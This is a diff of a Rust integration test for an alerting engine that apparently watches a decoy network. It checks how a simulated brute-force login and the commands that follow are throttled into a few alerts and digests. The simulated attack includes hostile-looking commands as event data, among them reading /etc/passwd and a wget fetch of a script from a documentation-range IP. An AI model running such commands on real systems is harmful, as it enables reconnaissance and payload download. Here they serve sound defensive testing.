@@ -5,43 +5,21 @@
 
 mod common;
 
-use std::sync::Arc;
-use std::time::{Duration, Instant};
+use std::time::Duration;
 
-use chrono::TimeZone;
-use common::{event, Receiver};
-use decnet_alerts::clock::ManualClock;
+use common::{event, rig, until, Receiver, Rig};
 use decnet_alerts::delivery::history::DeliveryState;
-use decnet_alerts::{AlertEngine, AlertKind, AlertsConfig, EngineOptions, Stage};
+use decnet_alerts::{AlertKind, Stage};
 use decnet_bus::{Bus, Envelope, MemoryBus};
 use decnet_core::EventKind;
 use serde_json::json;
 
-async fn until(what: &str, secs: u64, mut f: impl FnMut() -> bool) {
-    let deadline = Instant::now() + Duration::from_secs(secs);
-    while !f() {
-        assert!(Instant::now() < deadline, "timed out waiting for {what}");
-        tokio::time::sleep(Duration::from_millis(10)).await;
-    }
-}
-
-async fn engine(rx: &Receiver) -> (Arc<MemoryBus>, Arc<ManualClock>, decnet_alerts::AlertHandle, tempfile::TempDir) {
-    let ini = format!(
+fn hook_ini(rx: &Receiver) -> String {
+    format!(
         "[alerts]\nwindow = 5m\nretry_base = 10ms\n[alerts.hook]\ntype = webhook\nurl = {}\nsecret = brute-force-secret-0123\nca_file = {}\n",
         rx.url("/h"),
         rx.identity.ca_file.display()
-    );
-    let cfg = AlertsConfig::from_ini(&ini).unwrap();
-    let clock = Arc::new(ManualClock::new(chrono::Utc.with_ymd_and_hms(2026, 11, 23, 10, 0, 0).unwrap()));
-    let bus = MemoryBus::new();
-    let dir = tempfile::tempdir().unwrap();
-    let opts = EngineOptions {
-        clock: clock.clone(),
-        tick: Duration::from_millis(20),
-        queue: 65_536,
-    };
-    let h = AlertEngine::spawn_with(bus.clone(), cfg, dir.path(), opts).await.unwrap();
-    (bus, clock, h, dir)
+    )
 }
 
 fn attack(bus: &MemoryBus, ips: &[&str]) -> u64 {
@@ -55,9 +33,23 @@ fn attack(bus: &MemoryBus, ips: &[&str]) -> u64 {
         ));
         n += 1;
     }
-    bus.publish_event(event(EventKind::AuthAttempt, ips[0], json!({"username": "root", "success": true})));
-    for c in ["uname -a", "id", "cat /etc/passwd", "wget http://203.0.113.99/x.sh", "ls -la"] {
-        bus.publish_event(event(EventKind::Command, ips[0], json!({"command": c, "user": "root"})));
+    bus.publish_event(event(
+        EventKind::AuthAttempt,
+        ips[0],
+        json!({"username": "root", "success": true}),
+    ));
+    for c in [
+        "uname -a",
+        "id",
+        "cat /etc/passwd",
+        "wget http://203.0.113.99/x.sh",
+        "ls -la",
+    ] {
+        bus.publish_event(event(
+            EventKind::Command,
+            ips[0],
+            json!({"command": c, "user": "root"}),
+        ));
     }
     n + 6
 }
@@ -65,7 +57,12 @@ fn attack(bus: &MemoryBus, ips: &[&str]) -> u64 {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn ten_thousand_attempts_then_login_and_commands_is_a_handful() {
     let rx = Receiver::start().await;
-    let (bus, clock, h, _dir) = engine(&rx).await;
+    let Rig {
+        bus,
+        clock,
+        h,
+        dir: _spool,
+    } = rig(&hook_ini(&rx)).await;
     let sent = attack(&bus, &["203.0.113.50"]);
     until("all events read", 30, || h.stats().received >= sent).await;
     // First sight and the two escalations go out at once.
@@ -76,14 +73,20 @@ async fn ten_thousand_attempts_then_login_and_commands_is_a_handful() {
     until("digests", 10, || h.history(100, 0).total == 5).await;
     let reqs = rx.wait_for(5, 20).await;
     until("delivery states", 10, || {
-        h.history(100, 0).data.iter().all(|r| r.deliveries.iter().all(|d| d.state == DeliveryState::Sent))
+        h.history(100, 0)
+            .data
+            .iter()
+            .all(|r| r.deliveries.iter().all(|d| d.state == DeliveryState::Sent))
     })
     .await;
 
     let page = h.history(100, 0);
     let mut alerts: Vec<_> = page.data.iter().map(|r| r.alert.clone()).collect();
     alerts.reverse();
-    let summary: Vec<(String, &str)> = alerts.iter().map(|a| (a.rule.clone(), a.kind.name())).collect();
+    let summary: Vec<(String, &str)> = alerts
+        .iter()
+        .map(|a| (a.rule.clone(), a.kind.name()))
+        .collect();
     assert_eq!(
         summary,
         vec![
@@ -94,35 +97,57 @@ async fn ten_thousand_attempts_then_login_and_commands_is_a_handful() {
             ("command_executed".to_string(), "digest"),
         ]
     );
-    assert_eq!(alerts[1].kind, AlertKind::Escalation { from: Some(Stage::Auth) });
-    assert_eq!(alerts[2].kind, AlertKind::Escalation { from: Some(Stage::Login) });
-    let counted: u64 = alerts
-        .iter()
-        .map(|a| match a.kind {
-            AlertKind::Digest { suppressed, .. } => suppressed,
-            _ => 1,
-        })
-        .sum();
-    assert_eq!(counted, sent, "every event is an alert or counted in a digest");
-    let AlertKind::Digest { suppressed, .. } = alerts[3].kind else { panic!() };
+    assert_eq!(
+        alerts[1].kind,
+        AlertKind::Escalation {
+            from: Some(Stage::Auth)
+        }
+    );
+    assert_eq!(
+        alerts[2].kind,
+        AlertKind::Escalation {
+            from: Some(Stage::Login)
+        }
+    );
+    let counted: u64 = alerts.iter().map(|a| a.hits()).sum();
+    assert_eq!(
+        counted, sent,
+        "every event is an alert or counted in a digest"
+    );
+    let AlertKind::Digest { suppressed, .. } = alerts[3].kind else {
+        panic!()
+    };
     assert_eq!(suppressed, 9_999);
-    let AlertKind::Digest { suppressed, .. } = alerts[4].kind else { panic!() };
+    let AlertKind::Digest { suppressed, .. } = alerts[4].kind else {
+        panic!()
+    };
     assert_eq!(suppressed, 4);
 
-    let ids: Vec<String> = reqs.iter().filter_map(|r| r.header("x-decnet-delivery")).collect();
+    let ids: Vec<String> = reqs
+        .iter()
+        .filter_map(|r| r.header("x-decnet-delivery"))
+        .collect();
     for a in &alerts {
         assert!(ids.contains(&a.id.to_string()), "alert {} delivered", a.id);
     }
     let st = h.stats();
     assert_eq!(st.bus_dropped, 0);
-    assert_eq!((st.noise.hits, st.noise.suppressed, st.noise.digests), (sent, sent - 3, 2));
+    assert_eq!(
+        (st.noise.hits, st.noise.suppressed, st.noise.digests),
+        (sent, sent - 3, 2)
+    );
     h.shutdown().await;
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn an_identity_spread_over_addresses_is_throttled_as_one() {
     let rx = Receiver::start().await;
-    let (bus, clock, h, _dir) = engine(&rx).await;
+    let Rig {
+        bus,
+        clock,
+        h,
+        dir: _spool,
+    } = rig(&hook_ini(&rx)).await;
     let ips = ["192.0.2.11", "192.0.2.12", "192.0.2.13", "192.0.2.14"];
     bus.publish(Envelope::json(
         "identity.formed",
